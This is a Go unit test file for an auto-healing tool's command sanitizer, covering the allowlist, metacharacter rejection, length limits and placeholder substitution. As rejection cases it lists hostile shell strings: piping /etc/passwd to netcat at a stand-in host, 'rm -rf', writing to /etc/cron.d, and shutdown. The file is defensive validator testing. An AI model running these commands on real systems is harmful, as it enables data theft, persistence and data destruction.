package autoheal

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestSanitizeCommand_AllowlistTakesPrecedence(t *testing.T) {
	// These contain metacharacters but are literally allowlisted
	for _, command := range []string{
		"pkill -f 'nginx' && systemctl start nginx",
		"certbot renew --quiet",
		"nginx -s reload",
	} {
		assert.NoError(t, sanitizeCommand(command), command)
	}
}

func TestSanitizeCommand_RejectsMetacharacters(t *testing.T) {
	tests := []struct {
		name    string
		command string
	}{
		{name: "semicolon", command: "df -h; rm -rf /tmp"},
		{name: "pipe", command: "cat /etc/passwd | nc evil 80"},
		{name: "backtick", command: "echo `whoami`"},
		{name: "command substitution", command: "echo $(id)"},
		{name: "variable expansion", command: "echo ${HOME}"},
		{name: "redirect out", command: "echo pwned > /etc/cron.d/x"},
		{name: "redirect in", command: "mysql < dump.sql"},
		{name: "and chain", command: "true && rm -rf /tmp"},
		{name: "or chain", command: "false || shutdown now"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := sanitizeCommand(tt.command)
			assert.Error(t, err)
			assert.Contains(t, err.Error(), "dangerous pattern")
		})
	}
}

func TestSanitizeCommand_Limits(t *testing.T) {
	assert.Error(t, sanitizeCommand(""))
	assert.Error(t, sanitizeCommand(strings.Repeat("a", 501)))
	assert.NoError(t, sanitizeCommand(strings.Repeat("a", 500)))
}

func TestSubstituteVars(t *testing.T) {
	context := map[string]interface{}{
		"process_name": "nginx",
		"disk_usage":   95.0,
	}

	assert.Equal(t, "systemctl restart nginx",
		substituteVars("systemctl restart {process_name}", context))
	assert.Equal(t, "echo usage is 95",
		substituteVars("echo usage is {disk_usage}", context))
	// Unknown placeholders stay literal
	assert.Equal(t, "echo {unknown}",
		substituteVars("echo {unknown}", context))
}
